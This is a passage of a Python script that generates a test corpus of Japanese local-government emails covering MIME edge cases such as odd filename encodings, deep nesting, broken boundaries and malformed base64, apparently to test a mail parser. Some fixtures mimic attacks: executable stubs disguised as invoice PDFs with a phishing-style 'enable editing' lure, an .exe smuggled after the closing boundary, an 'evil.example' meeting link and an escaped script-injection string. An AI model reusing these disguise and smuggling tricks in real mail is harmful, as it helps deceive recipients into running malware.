""" % T["17.html"])
    body = multipart("alt17", [
        part(ct_text("plain", "ISO-2022-JP", "7bit"), text.encode("iso2022_jp")),
        part([b"Content-Type: text/html", b"Content-Transfer-Encoding: base64"], b64(html)),
    ], preamble=b"This is a multi-part message in MIME format.\n\n")
    return headers(n, addr("見本市 生涯学習課", "shogai@city.example.lg.jp", "ISO-2022-JP"),
                   b"shisetsu-riyosha@example.jp", ew_jis("公共施設予約システム メンテナンスのお知らせ"),
                   b"Content-Type: multipart/alternative; boundary=alt17") + b"\n" + body


@sample("18-related-cid-images")
def s18(n):
    html = u8("""<html><body>
<p><img src="cid:logo.20250418@city.example.lg.jp" alt="見本市ロゴ" width="16" height="16"> 見本市 観光協会だより ４月号</p>
<p>今月のおすすめ：見本川の桜並木（下の地図の赤い印）</p>
<p><img src="cid:map01" alt="桜並木の地図"></p>
<p>外部画像（読み込まれないこと）：<img src="https://cdn.example.com/banner.jpg" alt="外部バナー"></p>
</body></html>
""")
    body = multipart("rel-18-b", [
        part(ct_text("html", "UTF-8", "quoted-printable"), qp(html)),
        part([b'Content-Type: image/png; name="logo.png"',
              b"Content-Transfer-Encoding: base64",
              b"Content-ID: <logo.20250418@city.example.lg.jp>",
              b'Content-Disposition: inline; filename="logo.png"'], b64(png_logo())),
        part([b"Content-Type: image/png",
              b"Content-Transfer-Encoding: base64",
              b"Content-ID: <map01>"], b64(png_map())),
    ])
    return headers(n, addr("見本市観光協会", "info@kanko.example.jp"),
                   b"kanko@city.example.lg.jp", ew_u8("見本市 観光協会だより ４月号"),
                   b'Content-Type: multipart/related; type="text/html"; boundary="rel-18-b"') + b"\n" + body


@sample("19-mixed-attachments")
def s19(n):
    text = u8("""見本市 契約管財課 御中

株式会社サンプル商事の佐藤です。
下記ファイルを添付いたします。

・請求書.pdf（令和７年３月分）
・見積書.docx（次年度保守費用）
・現場写真.png（設置状況）

ご査収のほどよろしくお願いいたします。
""")
    fn_pdf = b"*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf"
    fn_docx = b'="' + ew_u8("見積書.docx") + b'"'
    fn_png = b"*=UTF-8''" + "".join("%%%02X" % c for c in u8("現場写真.png")).encode()
    body = multipart("mixed-19", [
        part(ct_text("plain", "UTF-8", "8bit"), text),
        attachment(b"application/pdf", fn_pdf, pdf(["Invoice No. 2025-0331", "Amount: JPY 1,234,567", "Sample Shoji Co., Ltd."])),
        attachment(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document", fn_docx,
                   docx("見積書 令和7年度 保守費用 一式 ¥660,000")),
        attachment(b"image/png", fn_png, png_map()),
    ])
    return headers(n, VENDOR, b"keiyaku@city.example.lg.jp",
                   ew_u8("請求書・見積書の送付"),
                   b'Content-Type: multipart/mixed; boundary="mixed-19"') + b"\n" + body


@sample("20-forwarded-rfc822")
def s20(n):
    inner_html = u8("""<html><head><meta charset="utf-8"></head><body>
<p>ボランティア担当各位</p>
<p>５月１０日の<b>市民ボランティア説明会</b>の参加者名簿を添付します。</p>
<ul><li>参加予定：４２名</li><li>会場：市民活動センター 大会議室</li></ul>
<p>個人情報を含みますので取扱いにご注意ください。</p>
<p>見本市社会福祉協議会 小林</p>
</body></html>
""")
    csv = cp932_ibm("受付番号,氏名,地区,連絡先\r\n1,髙橋 一郎,緑町,090-0000-0001\r\n2,山﨑 花子,桜台,090-0000-0002\r\n3,鈴木 次郎,見本川,090-0000-0003\r\n")
    inner_body = multipart("inner-20", [
        part(ct_text("html", "UTF-8", "base64"), b64(inner_html)),
        part([b'Content-Type: text/csv; charset=Shift_JIS; name="' + ew_jis("参加者名簿.csv") + b'"',
              b"Content-Transfer-Encoding: base64",
              b'Content-Disposition: attachment; filename="' + ew_jis("参加者名簿.csv") + b'"'], b64(csv)),
    ])
    inner = (b"Date: Mon, 14 Apr 2025 16:02:11 +0900\n"
             b"From: " + addr("見本市社会福祉協議会 小林", "kobayashi@shakyo.example.jp") + b"\n"
             b"To: volunteer@city.example.lg.jp\n"
             b"Subject: " + ew_jis(T["20.inner.subject"]) + b"\n"
             b"Message-ID: <20250414160211.kobayashi@shakyo.example.jp>\n"
             b"MIME-Version: 1.0\n"
             b'Content-Type: multipart/mixed; boundary="inner-20"\n\n' + inner_body)
    outer_text = u8("""関係各位

社会福祉協議会から届いた名簿を転送します。
添付の元メールをご確認ください。

見本市 福祉課 井上
""")
    body = multipart("outer-20", [
        part(ct_text("plain", "UTF-8", "8bit"), outer_text),
        part([b"Content-Type: message/rfc822",
              b"Content-Disposition: inline"], inner),
    ])
    return headers(n, addr("見本市 福祉課 井上", "inoue@city.example.lg.jp"),
                   b"fukushi-ka@city.example.lg.jp",
                   ew_u8("Fw: " + T["20.inner.subject"]),
                   b'Content-Type: multipart/mixed; boundary="outer-20"') + b"\n" + body


@sample("21-nested-4-levels")
def s21(n):
    html = u8("""<html><body>
<p>令和７年度 予算編成方針の説明資料です。</p>
<p><img src="cid:chart-21@city.example.lg.jp" alt="歳出の推移グラフ"></p>
<p>詳細は添付の PDF をご覧ください。</p>
</body></html>
""")
    lvl4 = multipart("L4-mixed", [
        part(ct_text("plain", "UTF-8", "8bit"), u8("（第４階層の本文）別添資料の説明です。\n")),
        attachment(b"application/pdf", b'="level4-shiryo.pdf"', pdf(["Level 4 attachment", "Budget policy FY2025"])),
    ])
    lvl3 = multipart("L3-related", [
        part(ct_text("html", "UTF-8", "8bit"), html),
        part([b"Content-Type: image/png", b"Content-Transfer-Encoding: base64",
              b"Content-ID: <chart-21@city.example.lg.jp>", b"Content-Disposition: inline"], b64(png_map())),
        part([b'Content-Type: multipart/mixed; boundary="L4-mixed"'], lvl4),
        attachment(b"text/csv; charset=UTF-8", b'="level3-data.csv"', u8("年度,歳出（百万円）\n2023,41200\n2024,42850\n2025,43910\n")),
    ])
    lvl2 = multipart("L2-alt", [
        part(ct_text("plain", "UTF-8", "8bit"), u8("令和７年度 予算編成方針の説明資料です。\n詳細は添付の PDF をご覧ください。\n")),
        part([b'Content-Type: multipart/related; type="text/html"; boundary="L3-related"'], lvl3),
    ])
    lvl1 = multipart("L1-mixed", [
        part([b'Content-Type: multipart/alternative; boundary="L2-alt"'], lvl2),
        attachment(b"application/vnd.ms-excel", b'="level1-yosan.xls"', b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504),
    ])
    return headers(n, addr("見本市 財政課", "zaisei@city.example.lg.jp"),
                   b"kacho-kai@city.example.lg.jp", ew_u8("令和７年度 予算編成方針の説明資料"),
                   b'Content-Type: multipart/mixed; boundary="L1-mixed"') + b"\n" + lvl1


def _pct(b):
    return "".join(chr(c) if (0x30 <= c <= 0x39 or 0x41 <= c <= 0x5A or 0x61 <= c <= 0x7A or c in b".-_")
                   else "%%%02X" % c for c in b).encode()


@sample("22-rfc2231-filenames")
def s22(n):
    names = T["22.names"]
    # a) plain RFC 2231 UTF-8
    a = part([b"Content-Type: application/pdf; name*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf",
              b"Content-Transfer-Encoding: base64",
              b"Content-Disposition: attachment;\n filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf"],
             b64(pdf(["Seikyusho (invoice)"])))
    # b) ISO-2022-JP continuation, split inside a two-byte JIS character
    jb = names[1].encode("iso2022_jp")
    cut = 3 + 3  # ESC $ B + one char + first byte of second
    b = part([b"Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
              b"Content-Transfer-Encoding: base64",
              b"Content-Disposition: attachment;\n filename*0*=ISO-2022-JP'ja'" + _pct(jb[:cut]) + b";\n filename*1*=" + _pct(jb[cut:])],
             b64(docx("yosan")))
    # c) Shift_JIS continuation incl. trail byte 0x5C (表) and an unencoded last segment
    sb = cp932_ibm(names[2][:-5])  # without ".docx"
    c = part([b"Content-Type: application/msword",
              b"Content-Transfer-Encoding: base64",
              b"Content-Disposition: attachment;\n filename*0*=Shift_JIS''" + _pct(sb[:5]) + b";\n filename*1*=" + _pct(sb[5:]) + b';\n filename*2=".docx"'],
             b64(docx("kaigi")))
    # d) Outlook style: RFC 2047 inside quoted parameter values
    d = part([b'Content-Type: application/vnd.ms-excel;\n\tname="' + ew_jis(names[3]) + b'"',
              b"Content-Transfer-Encoding: base64",
              b'Content-Disposition: attachment;\n\tfilename="' + ew_jis(names[3]) + b'"'],
             b64(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 248))
    # e) long UTF-8 name in three continuations, split inside characters
    ub = u8(names[4])
    e = part([b"Content-Type: application/pdf",
              b"Content-Transfer-Encoding: base64",
              b"Content-Disposition: attachment;\n filename*0*=utf-8''" + _pct(ub[:8]) + b";\n filename*1*=" + _pct(ub[8:20]) + b";\n filename*2*=" + _pct(ub[20:])],
             b64(pdf(["Chiiki bosai keikaku kaiteian"])))
    text = u8("添付ファイル名のエンコード形式の確認用です（RFC 2231 / RFC 2047）。\n\n" + "\n".join("・" + x for x in names) + "\n")
    body = multipart("mixed-22", [part(ct_text("plain", "UTF-8", "8bit"), text), a, b, c, d, e])
    return headers(n, SOUMU, b"joho-seisaku@city.example.lg.jp",
                   ew_u8("添付ファイル名テスト（各種エンコード）"),
                   b'Content-Type: multipart/mixed; boundary="mixed-22"') + b"\n" + body


@sample("23-raw-8bit-filename")
def s23(n):
    fn = b'="' + cp932_ibm(T["23.name"]) + b'"'
    body = multipart("mixed-23", [
        part(ct_text("plain", "Shift_JIS", "8bit"), cp932_ibm("見積書を添付します。\n表計算ファイルです。\n")),
        attachment(b"application/vnd.ms-excel", fn, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 248),
    ])
    return headers(n, b'"' + cp932_ibm("㈱見本ソフト 能登") + b'" <noto@example.com>',
                   b"keiyaku@city.example.lg.jp", cp932_ibm("見積書送付"),
                   b'Content-Type: multipart/mixed; boundary="mixed-23"') + b"\n" + body


@sample("24-broken-boundaries")
def s24(n):
    B = b"----=_NextPart_000_0012_01DB1234.56789ABC"
    WRONG = b"----=_NextPart_000_0012_01DB1234.56789ABD"
    body = (
        b"This is a multi-part message in MIME format.\n"
        + u8("これはプリアンブルです。MIME 非対応のメーラ向けの文章で、表示されないはずです。\n") + b"\n"
        + b"--" + B + b"\n"
        + part(ct_text("plain", "UTF-8", "8bit"), u8("見本市 監査委員事務局 御中\n\n監査資料を送付します（本文１）。\n"))
        # mistyped delimiter: not a boundary, so this "part" is text of part 1
        + b"--" + WRONG + b"\n"
        + part([b'Content-Type: application/octet-stream; name="hidden.bin"',
                b"Content-Transfer-Encoding: base64",
                b'Content-Disposition: attachment; filename="hidden.bin"'], b64(b"hidden attachment behind a mistyped boundary\n"))
        + b"--" + B + b"   \n"  # legal transport padding after delimiter
        + b"<<<< garbage: this line is not a header >>>>\n"
        + b"\x7f\x01 more garbage\n\n"
        + u8("ヘッダのないパート（ゴミ）\n")
        + b"--" + B + b"\n"
        + part(ct_text("plain", "UTF-8", "8bit"), u8("本文２：監査日程は５月１２日です。\n"))
        + b"garbage between parts, after the body of part 3 -- belongs to it\n"
        + b"--" + B + b"\n"
        + attachment(b"application/pdf", b'="kansa-shiryo.pdf"', pdf(["Audit material"]))
        + b"--" + B + b"--\n"
        + u8("エピローグです。ここも表示されないはずです。\n")
        + b"--" + B + b"\n"
        + b'Content-Type: application/octet-stream; name="smuggled.exe"\n'
        + b"Content-Transfer-Encoding: base64\n\n"
        + b64(mz_stub("smuggled-in-epilogue"))
    )
    return headers(n, addr("監査法人サンプル", "audit@example.com"),
                   b"kansa@city.example.lg.jp", ew_u8("監査資料の送付（境界不正）"),
                   b'Content-Type: multipart/mixed;\n\tboundary="' + B + b'"') + b"\n" + body


@sample("25-missing-end-boundary")
def s25(n):
    att = b64(pdf(["Truncated transfer", "Tokyo"] * 20))
    att = att[: len(att) // 2]  # cut mid-attachment, mid-line
    att = att[: att.rfind(b"\n") + 31]
    body = (b"--trunc-25\n"
            + part(ct_text("plain", "UTF-8", "8bit"), u8("議事録を送付します。\n添付 PDF をご確認ください。\n"))
            + b"--trunc-25\n"
            + b'Content-Type: application/pdf; name="gijiroku.pdf"\n'
            + b"Content-Transfer-Encoding: base64\n"
            + b'Content-Disposition: attachment; filename="gijiroku.pdf"\n\n'
            + att)
    return headers(n, addr("見本市 議会事務局", "gikai@city.example.lg.jp"),
                   b"giin-all@city.example.lg.jp", ew_u8("常任委員会 議事録（案）"),
                   b'Content-Type: multipart/mixed; boundary="trunc-25"') + b"\n" + body


@sample("26-bad-base64")
def s26(n):
    good = base64.b64encode(u8("見本市 税務課 御中\n\n確定申告の相談会場について問い合わせます。\n会場と受付時間を教えてください。\n"))
    # invalid characters sprinkled in, and a line with wrong padding in the middle
    bad1 = good[:40] + b"!!*" + good[40:80] + b"\n" + good[80:120] + b"=" + b"\n" + b"\xe3\x81\x82" + good[120:] + b"\n"
    # missing padding (length not a multiple of 4), cut inside a UTF-8 char
    t2 = base64.b64encode(u8("第２パート：パディング不足のテスト。"))
    bad2 = t2.rstrip(b"=")[:-1] + b"\n"
    # attachment: truncated + excess padding + whitespace inside
    pdfb = base64.b64encode(pdf(["Bad base64 attachment"]))
    bad3 = b"\n".join(pdfb[i:i + 76] for i in range(0, 600, 76)) + b"\nAAA===\n" + b"  QUJD RA\t==\n"
    body = multipart("b64-26", [
        part(ct_text("plain", "UTF-8", "base64"), bad1),
        part(ct_text("plain", "UTF-8", "base64"), bad2),
        part([b'Content-Type: application/pdf; name="shinkoku.pdf"',
              b"Content-Transfer-Encoding: base64",
              b'Content-Disposition: attachment; filename="shinkoku.pdf"'], bad3),
    ])
    return headers(n, HANAKO, b"zeimu@city.example.lg.jp", ew_u8("確定申告相談会場の問い合わせ"),
                   b'Content-Type: multipart/mixed; boundary="b64-26"') + b"\n" + body


@sample("27-huge-line-1mb")
def s27(n):
    unit = u8("見本市からのお知らせ：住民票の写しのコンビニ交付は毎日６時半から２３時まで利用できます。")
    size = 1024 * 1024
    line = (unit * (size // len(unit) + 1))
    # cut at a character boundary then pad with ASCII to exactly 1 MiB
    cut = size - 64
    while line[cut] & 0xC0 == 0x80:
        cut -= 1
    line = line[:cut]
    line += b" END-OF-LINE-" + b"x" * (size - len(line) - 13)
    assert len(line) == size
    body = u8("以下の行は改行を含まない 1 MiB の一行です。\n") + line + b"\n" + u8("（一行の終わり）\n")
    return headers(n, addr("見本市 自動配信", "noreply@city.example.lg.jp"),
                   b"yamada-taro@city.example.lg.jp", ew_u8("長い行のテスト（1 MiB）"),
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + body


@sample("28-deep-nesting-150")
def s28(n):
    depth = 150

    def level(i):
        bd = b"nest-%03d" % i
        if i == depth:
            inner = [
                part(ct_text("plain", "UTF-8", "8bit"), u8("最深部（第150階層）の本文です。\n")),
                attachment(b"application/pdf", b'="deep-150.pdf"', pdf(["depth 150"])),
            ]
        else:
            inner = [part([b'Content-Type: multipart/mixed; boundary="nest-%03d"' % (i + 1)], level(i + 1))]
            if i % 25 == 0:
                inner.append(part(ct_text("plain", "UTF-8", "8bit"), u8("第%d階層のテキスト\n" % i)))
        return multipart(bd, inner)
    return headers(n, addr("不審な送信者", "deep@example.com"),
                   b"yamada-taro@city.example.lg.jp", ew_u8("入れ子 150 階層"),
                   b'Content-Type: multipart/mixed; boundary="nest-001"') + b"\n" + level(1)


@sample("29-3000-parts")
def s29(n):
    parts = [part(ct_text("plain", "UTF-8", "8bit"), u8("3000 個の小さな添付ファイルを含むメールです。\n"))]
    for i in range(1, 3001):
        parts.append(part([b'Content-Type: text/plain; charset=us-ascii; name="part-%04d.txt"' % i,
                           b'Content-Disposition: attachment; filename="part-%04d.txt"' % i],
                          b"line item %04d\n" % i))
    return headers(n, addr("一括送信システム", "bulk@example.com"),
                   b"yamada-taro@city.example.lg.jp", ew_u8("添付 3000 件"),
                   b'Content-Type: multipart/mixed; boundary="p3000"') + b"\n" + multipart("p3000", parts)


@sample("30-exe-disguised")
def s30(n):
    text = u8("""見本市 会計課 御中

請求書を送付します。至急ご確認ください。
添付ファイルが開けない場合は「編集を有効にする」を押してください。
""")
    body = multipart("exe-30", [
        part(ct_text("plain", "UTF-8", "8bit"), text),
        attachment(b"application/octet-stream", b'="invoice.pdf.exe"', mz_stub("invoice.pdf.exe")),
        attachment(b"application/pdf", b'="setup.exe"', mz_stub("setup.exe")),
        attachment(b"application/pdf", b"*=UTF-8''" + _pct(u8("請求明細.pdf")), mz_stub("seikyu-meisai.pdf")),
    ])
    return headers(n, addr("請求書 送付センター", "invoice@example.com"),
                   b"kaikei@city.example.lg.jp", ew_u8("【至急】請求書の送付（再送）"),
                   b'Content-Type: multipart/mixed; boundary="exe-30"') + b"\n" + body


@sample("31-outlook-word-html")
def s31(n):
    html = u8("""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}
o\\:* {behavior:url(#default#VML);}
</style><![endif]--><style><!--
/* Font Definitions */
@font-face
	{font-family:"ＭＳ ゴシック";
	panose-1:2 11 6 9 7 2 5 8 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0mm;
	text-align:justify;
	text-justify:inter-ideograph;
	font-size:10.5pt;
	font-family:"游ゴシック",sans-serif;}
p.MsoListParagraph
	{mso-style-priority:34;
	margin-left:42.0pt;
	text-indent:-21.0pt;}
@list l0
	{mso-list-id:1834368;
	mso-list-template-ids:-1198392018;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--><!--[if gte mso 9]><xml>
<o:shapelayout v:ext="edit">
<o:idmap v:ext="edit" data="1" />
</o:shapelayout></xml><![endif]-->
</head>
<body lang=JA link="#0563C1" vlink="#954F72" style='text-justify-trim:punctuation'>
<div class=WordSection1>
<p class=MsoNormal>関係各位<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>人事課の小川です。<span lang=EN-US>4</span>月の新任職員研修について、下記のとおりご連絡します。<o:p></o:p></p>
<p class=MsoListParagraph style='margin-left:21.0pt;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>①<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>研修日程：<span lang=EN-US>4</span>月<span lang=EN-US>21</span>日～<span lang=EN-US>23</span>日<o:p></o:p></p>
<p class=MsoListParagraph style='margin-left:21.0pt;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>②<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>会場：本庁舎<span lang=EN-US>7</span>階 大会議室<o:p></o:p></p>
<p class=MsoListParagraph style='margin-left:42.0pt;text-indent:-21.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>・<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span></span><![endif]>初日のみ別館<span lang=EN-US>2</span>階<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt;mso-yfti-tbllook:1184'>
<tr style='mso-yfti-irow:0;mso-yfti-firstrow:yes'>
<td width=120 valign=top style='width:90.0pt;border:solid windowtext 1.0pt;padding:0mm 5.4pt 0mm 5.4pt'><p class=MsoNormal>日付<o:p></o:p></p></td>
<td width=240 valign=top style='width:180.0pt;border:solid windowtext 1.0pt;border-left:none;padding:0mm 5.4pt 0mm 5.4pt'><p class=MsoNormal>内容<o:p></o:p></p></td>
</tr>
<tr style='mso-yfti-irow:1'>
<td width=120 valign=top style='width:90.0pt;border:solid windowtext 1.0pt;border-top:none;padding:0mm 5.4pt 0mm 5.4pt'><p class=MsoNormal><span lang=EN-US>4/21</span>（月）<o:p></o:p></p></td>
<td width=240 valign=top style='width:180.0pt;border-top:none;border-left:none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;padding:0mm 5.4pt 0mm 5.4pt'><p class=MsoNormal>服務規律・個人情報保護<o:p></o:p></p></td>
</tr>
<tr style='mso-yfti-irow:2;mso-yfti-lastrow:yes'>
<td width=120 valign=top style='width:90.0pt;border:solid windowtext 1.0pt;border-top:none;padding:0mm 5.4pt 0mm 5.4pt'><p class=MsoNormal><span lang=EN-US>4/22</span>（火）<o:p></o:p></p></td>
<td width=240 valign=top style='width:180.0pt;border-top:none;border-left:none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;padding:0mm 5.4pt 0mm 5.4pt'><p class=MsoNormal>情報セキュリティ研修（標的型メール訓練）<o:p></o:p></p></td>
</tr>
</table>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>以上<o:p></o:p></p>
<p class=MsoNormal><span style='font-family:"ＭＳ ゴシック"'>――――――――――――――<br>見本市 総務部 人事課 小川<br>内線 <span lang=EN-US>2210</span><o:p></o:p></span></p>
</div>
</body>
</html>
""")
    text = u8("""関係各位

人事課の小川です。4月の新任職員研修について、下記のとおりご連絡します。

①　研修日程：4月21日～23日
②　会場：本庁舎7階 大会議室
・　初日のみ別館2階

日付	内容
4/21（月）	服務規律・個人情報保護
4/22（火）	情報セキュリティ研修（標的型メール訓練）

以上
""")
    body = multipart("----=_NextPart_000_0031_01DBAD31.5B2E4C70", [
        part(ct_text("plain", '"utf-8"', "base64"), b64(text)),
        part(ct_text("html", '"utf-8"', "quoted-printable"), qp(html)),
    ], preamble=b"This is a multipart message in MIME format.\n\n")
    return headers(n, addr("小川 直子", "ogawa@city.example.lg.jp"),
                   b"shinnin-kenshu@city.example.lg.jp", ew_u8("新任職員研修のご案内"),
                   b'Content-Type: multipart/alternative;\n\tboundary="----=_NextPart_000_0031_01DBAD31.5B2E4C70"',
                   b"X-Mailer: Microsoft Outlook 16.0",
                   b"Thread-Index: AdutMVsuvE0OhZ3hQkKcXk1RdKuD+w==",
                   b"Content-Language: ja") + b"\n" + body


@sample("32-html-entities-reply-chain")
def s32(n):
    html = u8("""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Re: Re: Re: 駐輪場の件</title></head>
<body>
<p>中村様</p>
<p>ご回答ありがとうございます。&nbsp;了解しました&hellip;&hellip;。<br>
料金は&yen;2,000&ndash;&yen;3,000、契約は「A&amp;B方式」とのことですね。<br>
なお「&lt;script&gt;alert(1)&lt;/script&gt;」という文字列は本文として表示されるべきです。<br>
文字参照：&#12354;&#x3044;&#X3046; &copy; 2025 見本市 &mdash; &quot;引用符&quot; &apos;単引用&apos; &unknownentity; &amp;amp;</p>
<pre>
  区分      台数   月額
  --------  -----  --------
  自転車     120   &yen;2,000
  原付        30   &yen;3,000
    (タブ→	←と  連続空白    を保持)
</pre>
<ol>
  <li>申込方法
    <ul>
      <li>窓口：市民課
        <ol type="a"><li>本人確認書類</li><li>防犯登録番号</li></ol>
      </li>
      <li>郵送：申込書を送付</li>
    </ul>
  </li>
  <li>契約期間：4月&#xFF5E;翌3月</li>
</ol>
<p>佐藤</p>
<blockquote type="cite">
  <p>2025年4月15日(火) 10:12 中村 健 &lt;nakamura@city.example.lg.jp&gt;:</p>
  <p>佐藤様<br>月額は自転車 2,000 円、原付 3,000 円です。</p>
  <blockquote type="cite">
    <p>2025年4月14日(月) 18:40 佐藤 &lt;sato@example.jp&gt;:</p>
    <p>料金を教えてください。</p>
    <blockquote type="cite">
      <p>2025年4月14日(月) 9:05 中村 健 &lt;nakamura@city.example.lg.jp&gt;:</p>
      <p>駅前駐輪場の定期利用の申込受付を開始しました。</p>
    </blockquote>
  </blockquote>
</blockquote>
</body></html>
""")
    return headers(n, addr("佐藤 一郎", "sato@example.jp"),
                   addr("中村 健", "nakamura@city.example.lg.jp"),
                   ew_u8("Re: Re: Re: 駐輪場の件"),
                   b"In-Reply-To: <20250415101200.nakamura@city.example.lg.jp>",
                   b"References: <20250414090500.nakamura@city.example.lg.jp>\n <20250414184000.sato@example.jp>\n <20250415101200.nakamura@city.example.lg.jp>",
                   b"Content-Type: text/html; charset=utf-8",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + html


@sample("33-long-subject-headers")
def s33(n):
    subj = ("【再送・重要・要回答】令和７年度 見本市 地域公共交通計画策定支援業務委託に係る"
            "プロポーザル方式による事業者選定の実施について（参加表明書の提出期限延長および"
            "質問回答書の公開、ならびに第２回審査委員会の開催日程変更のお知らせ）")
    folded = ew_fold(subj, chunk=12)
    to = b", ".join(b"kotsu-%02d@city.example.lg.jp" % i for i in range(1, 41))
    long_line = b"X-Long-Line: " + b"-".join(b"token%04d" % i for i in range(300))
    body = u8("件名が非常に長いメールです。本文は短いです。\n")
    return headers(n, addr("見本市 都市計画課 交通政策係", "kotsu@city.example.lg.jp"),
                   to, folded, long_line,
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + body


@sample("34-no-body")
def s34(n):
    return headers(n, HANAKO, b"shimin@city.example.lg.jp", ew_u8("（本文なし）"),
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: 7bit") + b"\n"


@sample("35-empty-text-part")
def s35(n):
    body = (b"--empty-35\n"
            + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 7bit\n\n"
            + b"--empty-35\n"
            + b"Content-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n\n"
            + b"--empty-35\n"
            + b'Content-Type: text/plain; charset=UTF-8; name="' + ew_u8("空ファイル.txt") + b'"\n'
            + b'Content-Disposition: attachment; filename="' + ew_u8("空ファイル.txt") + b'"\n'
            + b"Content-Transfer-Encoding: base64\n\n"
            + b"--empty-35--\n")
    return headers(n, HANAKO, b"shimin@city.example.lg.jp", ew_u8("空のパートのみ"),
                   b'Content-Type: multipart/mixed; boundary="empty-35"') + b"\n" + body


@sample("36-format-flowed")
def s36(n):
    # delsp=yes: a soft break is "SP CRLF" and the SP is deleted on reflow,
    # as Japanese text has no inter-word spaces.
    body = u8(
        "見本市 広報課の中村です。 \n"
        "広報紙「みほん」５月号の原稿締切は４月２５日（金）です。各課の掲載希望記事は、 \n"
        "所定の様式に記入のうえ、広報課までメールでお送りください。\n"
        "\n"
        " From: で始まる行はスペースでスタッフィングされています。\n"
        " > これは引用ではなく、スタッフィングされた本文です。\n"
        "\n"
        "> 中村様 \n"
        "> 写真の解像度はどの程度必要でしょうか。長辺 ２０００ピクセル以上が望ましいと \n"
        "> 伺っていますが、スマートフォンの写真でも問題ありませんか。\n"
        ">> 各課 広報担当者様 \n"
        ">> 原稿の提出をお願いします。\n"
        "\n"
        "スマートフォンの写真で問題ありません。 \n"
        "\n"
        "-- \n"
        "見本市 総合政策部 広報課 中村\n")
    return headers(n, addr("見本市 広報課 中村", "koho@city.example.lg.jp"),
                   b"koho-tanto@city.example.lg.jp", ew_u8("Re: 広報紙５月号の原稿締切"),
                   b"Content-Type: text/plain; charset=UTF-8; format=flowed; delsp=yes",
                   b"Content-Transfer-Encoding: 8bit",
                   b"User-Agent: Mozilla Thunderbird") + b"\n" + body


@sample("37-calendar-vcard")
def s37(n):
    ics = u8("""BEGIN:VCALENDAR
PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN
VERSION:2.0
METHOD:REQUEST
BEGIN:VTIMEZONE
TZID:Tokyo Standard Time
BEGIN:STANDARD
DTSTART:16010101T000000
TZOFFSETFROM:+0900
TZOFFSETTO:+0900
END:STANDARD
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=見本市 総務課 山田太郎:mailto:yamada-taro@city.example.lg.jp
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=株式会社サンプル商事:mailto:billing@example.com
DESCRIPTION;LANGUAGE=ja-JP:庁舎清掃業務の契約更新に関する打合せです。\\n資料は当日配布します。
URL:https://evil.example/meeting?join=1
UID:040000008200E00074C5B7101A82E00800000000mugaika37
SUMMARY;LANGUAGE=ja-JP:契約更新打合せ
DTSTART;TZID=Tokyo Standard Time:20250424T140000
DTEND;TZID=Tokyo Standard Time:20250424T150000
LOCATION;LANGUAGE=ja-JP:見本市役所 本庁舎3階 302会議室
SEQUENCE:0
STATUS:CONFIRMED
BEGIN:VALARM
ACTION:DISPLAY
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
END:VALARM
END:VEVENT
END:VCALENDAR
""")
    vcf = u8("""BEGIN:VCARD
VERSION:3.0
N:山田;太郎;;;
FN:山田 太郎
ORG:見本市;総務部 総務課
TITLE:主査
TEL;TYPE=WORK,VOICE:+81-0000-00-2345
EMAIL;TYPE=INTERNET:yamada-taro@city.example.lg.jp
ADR;TYPE=WORK:;;本町1-1;見本市;見本県;000-0000;日本
END:VCARD
""")
    alt = multipart("alt-37", [
        part(ct_text("plain", "utf-8", "base64"), b64(u8("契約更新打合せ\n日時：2025年4月24日(木) 14:00-15:00\n場所：本庁舎3階 302会議室\n"))),
        part([b'Content-Type: text/calendar; charset="utf-8"; method=REQUEST',
              b"Content-Transfer-Encoding: base64"], b64(ics)),
    ])
    body = multipart("mixed-37", [
